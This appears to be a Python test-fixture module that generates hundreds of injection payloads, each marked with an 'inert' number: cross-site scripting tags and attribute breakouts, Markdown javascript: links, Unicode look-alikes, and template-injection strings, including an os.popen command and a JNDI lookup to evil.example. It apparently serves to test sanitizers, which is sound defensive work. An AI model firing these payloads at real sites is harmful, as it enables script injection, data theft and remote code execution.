"""Texts that would act if a page took them for more than text: tags, attributes, addresses, Markdown, templates.

Every one carries a word of its own, `inert` and its number, by which whatever comes of it is known.
"""

from collections.abc import Iterator
from itertools import product

WORD = "inert"
EVALUATED = f"{WORD}1337"  # what the template tricks come to where somebody evaluates them
EVIL = "evil.example"

# What would be done, in code that needs no quotation marks of its own.
DEEDS = (
    "pwned(`{word}`)",
    "top.pwned(`{word}`)",
    "alert(`{word}`)",
    "location=`//evil.example/{word}`",
    "fetch(`//evil.example/{word}`)",
    "document.body.innerHTML=`{word}`",
)
TAGS = (
    "<script>{js}</script>",
    "<ScRiPt\n>{js}</sCrIpT\t>",
    "<script src=//evil.example/{word}></script>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<IMG SRC=x OnErRoR\n=\n{js}>",
    "<img src=//evil.example/{word}.png>",
    "<img srcset=//evil.example/{word}.png>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=//evil.example/{word} /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><a><set attributeName=href to=javascript:{js} /><text y=9>x</text></a></svg>",
    "<svg><a xlink:href=javascript:{js}><text y=9>x</text></a></svg>",
    "<svg><image href=//evil.example/{word}.png /></svg>",
    "<svg><foreignObject><body onload={js}></foreignObject></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><mi xlink:href=javascript:{js}>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc=<script>{js}</script>></iframe>",
    "<iframe src=//evil.example/{word}></iframe>",
    "<frameset onload={js}><frame src=javascript:{js}></frameset>",
    "<object data=javascript:{js}></object>",
    "<object type=text/html data=//evil.example/{word}></object>",
    "<embed src=//evil.example/{word}>",
    "<applet code={word}></applet>",
    "<form action=javascript:{js}><button>x</button></form>",
    "<form action=//evil.example/{word} method=post><input name={word}><input type=submit autofocus></form>",
    "<form id={word} name={word}><input name=attributes><input name=body></form>",
    "<button formaction=javascript:{js}>x</button>",
    "<button form=language formaction=//evil.example/{word}>x</button>",
    "<input autofocus onfocus={js}>",
    "<input type=image src=x onerror={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}><summary>x</summary></details>",
    "<dialog open onfocusin={js}>x</dialog>",
    "<video src=x onerror={js}></video>",
    "<video poster=//evil.example/{word}></video>",
    "<audio><source src=x onerror={js}></audio>",
    "<body onload={js} onpageshow={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{word}>",
    "<meta http-equiv=refresh content=0;url=javascript:{js}>",
    "<meta http-equiv=set-cookie content={word}=1>",
    "<base href=//evil.example/{word}/>",
    "<link rel=stylesheet href=//evil.example/{word}.css>",
    "<link rel=prefetch href=//evil.example/{word}>",
    "<style>@import url(//evil.example/{word});*{{background:url(//evil.example/{word})}}</style>",
    "<p style=background:url(//evil.example/{word});position:fixed;inset:0>x</p>",
    "<p id={word} class={word} name={word}>x</p>",
    "<a id={word} name=body href=javascript:{js}>x</a>",
    "<a href=data:text/html,<script>{js}</script>>x</a>",
    "<a href=vbscript:{js}>x</a>",
    "<a href=# ping=//evil.example/{word} onclick={js}>x</a>",
    "<map name={word}><area shape=default href=javascript:{js}></map>",
    "<table background=//evil.example/{word}><tr><td>x</table>",
    "<x onclick={js} tabindex=1 autofocus onfocus={js}>x</x>",
    "<template><script>{js}</script></template>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<noscript><p title=</noscript><img src=x onerror={js}>></noscript>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<?xml-stylesheet href=javascript:{js}?><img src=x onerror={js}>",
    "<plaintext><script>{js}</script>",
    "<xmp><script>{js}</script></xmp>",
    "<bdo dir=rtl><img src=x onerror={js}></bdo>",
)
WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</option></select>", "</pre></code></bdi></td></table>", "-->")
ATTRIBUTES = (
    "onfocus={js} autofocus",
    "onmouseover={js} x",
    "style=background:url(//evil.example/{word})",
    "srcdoc=<script>{js}</script>",
    "formaction=javascript:{js}",
    "href=javascript:{js}",
    "id={word}",
    "onpointerrawupdate={js}",
)
QUOTES = ('" {}', "' {}", "` {}", '"\t{}', "&quot; {}", '\\" {}', '"{} x="')
MARKDOWN = (
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](java&#115;cript:{js})",
    "[x](&#x6A;avascript&colon;{js})",
    "[x](<java\tscript:{js}>)",
    "[x](<javascript:{js}>)",
    "[x](\u0001javascript:{js})",
    "[x](\u00a0javascript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:{js})",
    "[x](file:///etc/{word})",
    "[x](blob:{js})",
    "[x](http:javascript:{js})",
    "[x](https://javascript:{js}@evil.example)",
    '[x](http://evil.example/{word} "x\\" onclick={js} \\"")',
    '[x](http://evil.example/{word}"onclick={js})',
    "[x](http://evil.example/{word}%22%20onclick={js})",
    "[x](//evil.example/{word})",
    "[x](/\\\\evil.example/{word})",
    "![x](javascript:{js})",
    "![x](//evil.example/{word}.png)",
    "![x](http://evil.example/{word}.png)",
    '![x" onerror={js} "](http://evil.example/{word}.png)',
    "![x](http://evil.example/{word}.png' onerror={js} ')",
    "<javascript:{js}>",
    "<data:text/html,{js}>",
    '<http://evil.example/{word}"onclick={js}>',
    "[x{word}]: javascript:{js}\n\n[x{word}]",
    "[x{word}]: http://evil.example '\"onclick={js}'\n\n[x{word}]",
    "[<img src=x onerror={js}>](http://evil.example/{word})",
    "[![x](javascript:{js})](javascript:{js})",
    "`<script>{js}</script>`",
    "```<img/src=x/onerror={js}>\n<script>{js}</script>\n```",
    '~~~" onclick={js}\nx\n~~~',
    "    <script>{js}</script>",
    "| a |\n| - |\n| <img src=x onerror={js}> |",
    "# <img src=x onerror={js}> {{#{word} onclick={js}}}",
    "> <svg onload={js}>",
    "1. <iframe src=javascript:{js}>",
    "<div>\n\n<script>{js}</script>\n\n</div>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "\\<script>{js}\\</script>",
    "**<b onclick={js}>**",
    "[[<script>{js}</script>]]",
    "*[x*](javascript:{js})",
)
TEMPLATES = (
    "{{{{ '{word}' ~ 7*191 }}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('echo {word}').read() }}}}",
    "{{% if 1 %}}{word}{{% endif %}}{{{{ '{word}'[:5] ~ 7*191 }}}}",
    "{{% import 'os' as {word} %}}",
    "{{# {word} #}}<script>{js}</script>",
    "{{{{ '<script>{js}</script>'|safe }}}}",
    "${{{{ '{word}' }}}}${{7*191}}",
    "#{{7*191}}{word}",
    "<%= 7*191 %>{word}<script>{js}</script>",
    "%(word)s %(unknown)s {word} %s %n 100%",
    "{{0.__class__}} {{word}} {word} {{}}",
    "${{jndi:ldap://evil.example/{word}}}",
    "[[${{7*191}}]] {word}",
    "{{{{constructor.constructor('{js}')()}}}}",
)
# The same signs in other letters: nothing may fold them into the real ones.
LETTERS = (
    "＜script＞{js}＜／script＞",
    "\u2039script\u203a{js}\u2039/script\u203a",
    "<\u017fcript>{js}</\u017fcript>",
    "<scr\u0131pt>{js}</scr\u0131pt>",
    "<script\u00a0>{js}</script>",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "\ufeff<script>{js}</script>",
    "%3Cscript%3E{js}%3C/script%3E",
    "%253Cscript%253E{js}",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{js}",
    "+ADw-script+AD4-{js}+ADw-/script+AD4-",
    "\u00bcscript\u00be{js}\u00bc/script\u00be",
    "\u202e>tpircs<{js}\u202c",
    "\u2067\u2066{word}<script>{js}</script>",
    "\u202e{word}\u202d\u2066\u2067\u2068<img src=x onerror={js}>",
    "{word}\u2028<script>{js}</script>\u2029",
    "{word}\u0085<script>{js}</script>",
    "\U000e003cscript\U000e003e{word}{js}",
    "i\u0307\u0307\u0307\u0307{word}<svg onload={js}>",
    "\ud55c{word}\u0600\u06dd\u070f<img src=x onerror={js}>",
    "<a\u0338 href=javascript:{js}>{word}</a>",
    ">\u0338<\u0338script>{js}",
    "\ufffd<script>{js}</script>\ufffe\uffff",
)


def payloads() -> list[str]:
    """Make all of them."""
    return [_written(form, number) for number, form in enumerate(_forms())]


def chunks(texts: list[str], most: int, between: str = " ") -> Iterator[str]:
    """Put as many together as a field takes; each is in one of the chunks, unless it is longer by itself."""
    chunk = ""
    for text in texts:
        if chunk and len(chunk) + len(between) + len(text) > most:
            yield chunk
            chunk = ""
        if len(text) <= most:
            chunk = f"{chunk}{between}{text}" if chunk else text
    if chunk:
        yield chunk


def _forms() -> Iterator[str]:
    yield from (way_out + tag for way_out, tag in product(WAYS_OUT, TAGS))
    yield from (quote.format(attribute) for quote, attribute in product(QUOTES, ATTRIBUTES))
    yield from (*MARKDOWN, *TEMPLATES, *LETTERS)


def _written(form: str, number: int) -> str:
    word = f"{WORD}{number + 10_000}"
    return form.format(js=DEEDS[number % len(DEEDS)].format(word=word), word=word)
